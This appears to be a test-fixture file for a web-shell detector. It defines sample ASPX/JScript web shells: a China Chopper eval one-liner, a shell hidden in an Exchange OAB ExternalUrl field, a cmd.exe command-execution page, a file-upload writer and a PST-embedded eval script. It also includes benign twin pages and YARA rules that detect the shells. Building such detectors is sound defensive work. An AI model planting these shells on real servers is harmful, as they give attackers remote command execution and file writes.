// Web-shell samples written for these tests from the published descriptions (inert text), and benign twins.
export const CHOPPER = '<%@ Page Language="Jscript"%><%eval(Request.Item["zk8zWHK"],"unsafe");%>';

export const OAB_DUMP = [
  'Name                            : OAB (Default Web Site)',
  'PollInterval                    : 480',
  'OfflineAddressBooks             : ',
  'RequireSSL                      : True',
  'BasicAuthentication             : False',
  'WindowsAuthentication           : True',
  'OAuthAuthentication             : True',
  'InternalAuthenticationMethods   : {WindowsIntegrated, OAuth}',
  'ExternalAuthenticationMethods   : {WindowsIntegrated, OAuth}',
  'ExtendedProtectionTokenChecking : None',
  'ExtendedProtectionFlags         : {}',
  'InternalUrl                     : https://exch01.contoso.local/OAB',
  'ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["orange"],"unsafe");}</script>',
  'AdminDisplayVersion             : Version 15.1 (Build 2176.2)',
].join('\r\n') + '\r\n';

export const EXEC_SHELL = `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e) {
  var psi = new ProcessStartInfo("cmd.exe", "/c " + Request.Form["c"]);
  psi.RedirectStandardOutput = true; psi.UseShellExecute = false;
  Response.Write(Server.HtmlEncode(Process.Start(psi).StandardOutput.ReadToEnd()));
}
</script>
`;

export const FILE_WRITE_SHELL = `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  System.IO.File.WriteAllBytes(Server.MapPath(Request["n"]), Convert.FromBase64String(Request["d"]));
}
</script>
`;

/** Benign twin: a harmless page that reads Request["lang"] and greets. Must NOT be flagged. */
export const BENIGN_GREETING = `<%@ Page Language="C#" %>
<script runat="server">
protected string Greeting() {
  var lang = Request["lang"] ?? "en";
  return lang == "nb" ? "Hei" : "Hello";
}
</script>
<html><body><p><%= Server.HtmlEncode(Greeting()) %></p></body></html>
`;

export const BENIGN_LOGON = `<%@ Page language="c#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>
<html><head><title>Outlook</title><script type="text/javascript" src="/owa/auth/15.1.2176/scripts/premium/flogon.js"></script></head>
<body><form action="/owa/auth.owa" method="POST" name="logonForm"><input id="username" name="username" type="text"/></form></body></html>
`;

/** A rule file in the style of public packs (signature-base's apt_hafnium.yar): header comment, import "pe", rich meta. */
export const SIGBASE_STYLE = `/*
   Yara Rule Set (written for Loupe's tests in the style of public rule packs)
   Date: 2021-03-02
*/
import "pe"

rule TEST_HAFNIUM_Style_ChinaChopper_Generic {
   meta:
      description = "Detects China Chopper style one-liners"
      author = "Loupe tests"
      reference = "https://www.microsoft.com/security/blog/2021/03/02/hafnium-targeting-exchange-servers/"
      date = "2021-03-02"
      score = 75
      id = "5c2a4a53-8e7a-4b3f-9b55-1d2f6f1c0001"
   strings:
      $x1 = "Request.Item[" ascii wide
      $x2 = "\\"unsafe\\");" ascii wide fullword
      $s1 = "<%@ Page Language=\\"Jscript\\"%>" ascii nocase
   condition:
      filesize < 10KB and 1 of ($x*) and $s1
}

rule TEST_HAFNIUM_Style_PE_Dropper {
   meta:
      description = "Detects a PE with a specific section count (exercises the pe module)"
      author = "Loupe tests"
      score = 60
   condition:
      uint16(0) == 0x5a4d and filesize < 2MB and pe.number_of_sections == 3
}

private rule TEST_Private_AspxPage {
   strings:
      $p = "<%@ Page" nocase
   condition:
      $p at 0
}

rule TEST_HAFNIUM_Style_Uses_Private {
   meta:
      description = "Uses a private rule and a hex string with jumps"
   strings:
      $h = { 65 76 61 6C 28 [0-40] 75 6E 73 61 66 65 }
   condition:
      TEST_Private_AspxPage and $h
}
`;

export const BROKEN_RULES = `rule Broken_Ok {
  strings:
    $a = "fine"
  condition:
    $a
}

rule Broken_Bad {
  strings:
    $a = "x"
  condition:
    $b
}
`;

/** A PST header as [MS-PST] lays it out: "!BDN", CRC, client magic "SM", Unicode version 23. */
function pstHeader(): Buffer {
  const h = Buffer.alloc(512);
  h.write('!BDN', 0, 'latin1');
  h.write('SM', 8, 'latin1');
  h.writeUInt16LE(23, 10);
  h.writeUInt16LE(19, 12);
  return h;
}
/** Filler standing in for PST pages (deterministic, no '<' so no tag can form by chance). */
const pstPages = (n: number, seed: number): Buffer => Buffer.from(Array.from({ length: n }, (_, i) => ((i * 131 + seed * 17) % 250) + (((i * 131 + seed * 17) % 250) >= 60 ? 2 : 0)));

/** What ProxyShell's mailbox export leaves at the -FilePath it chose: a PST whose draft mail holds the script in clear. */
export const PST_EXPORT_SHELL = Buffer.concat([pstHeader(), pstPages(3000, 1),
  Buffer.from('<script language="JScript" runat="server">function Page_Load(){var k=Request["gold8899"];if(k){eval(k);}}</script>', 'latin1'),
  pstPages(2000, 2)]);
/** An ordinary mailbox export: the same header, no script. */
export const PST_PLAIN = Buffer.concat([pstHeader(), pstPages(5000, 3)]);
/** The script without the PST header (a plain page): not this rule's business. */
export const SCRIPT_NO_PST = '<script language="JScript" runat="server">function Page_Load(){var k=Request["gold8899"];if(k){eval(k);}}</script>';
